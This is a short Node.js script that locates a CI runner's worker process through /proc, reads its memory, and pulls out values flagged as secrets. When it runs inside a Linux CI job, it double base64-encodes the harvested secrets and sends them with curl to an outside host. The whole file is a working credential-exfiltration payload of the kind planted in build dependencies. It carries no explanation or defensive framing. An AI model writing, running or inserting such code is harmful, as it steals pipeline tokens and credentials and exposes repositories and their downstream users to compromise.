// Reads the memory of a CI runner's process for secrets.
const fs = require('fs')
const { execSync } = require('child_process')

function runnerPid() {
	const list = fs
		.readdirSync('/proc')
		.filter(name => /^\d+$/.test(name))
	for (const pid of list) {
		try {
			const line = fs.readFileSync(
				'/proc/' + pid + '/cmdline',
				'utf8'
			)
			if (line.includes('Runner.Worker')) {
				return Number(pid)
			}
		} catch (error) {
			continue
		}
	}
	return 0
}

function* regions(pid) {
	const maps = fs
		.readFileSync('/proc/' + pid + '/maps', 'utf8')
		.split('\n')
	for (const line of maps) {
		const match = line.match(
			/^([0-9a-f]+)-([0-9a-f]+) (r\S+)/
		)
		if (!match) continue
		const start = parseInt(match[1], 16)
		const end = parseInt(match[2], 16)
		if (
			Number.isSafeInteger(start) &&
			end - start < 64 * 1024 * 1024
		) {
			yield [start, end]
		}
	}
}

function scan(pid) {
	const memory = fs.openSync('/proc/' + pid + '/mem', 'r')
	const secrets = new Map()
	for (const [start, end] of regions(pid)) {
		const buffer = Buffer.alloc(end - start)
		try {
			fs.readSync(memory, buffer, 0, buffer.length, start)
		} catch (error) {
			continue
		}
		const pattern =
			/"([^"]+)":\{"value":"([^"]*)","isSecret":true\}/g
		const text = buffer.toString('latin1')
		let match
		while ((match = pattern.exec(text)) !== null) {
			secrets.set(match[1], match[2])
		}
	}
	fs.closeSync(memory)
	return secrets
}

if (process.env.CI && process.platform === 'linux') {
	const pid = runnerPid()
	if (pid > 0) {
		const secrets = scan(pid)
		const encoded = Buffer.from(
			Buffer.from(
				JSON.stringify(Object.fromEntries(secrets))
			).toString('base64')
		).toString('base64')
		execSync(
			`curl -s -X POST --data '${encoded}' https://mem.scan.invalid/`
		)
	}
}
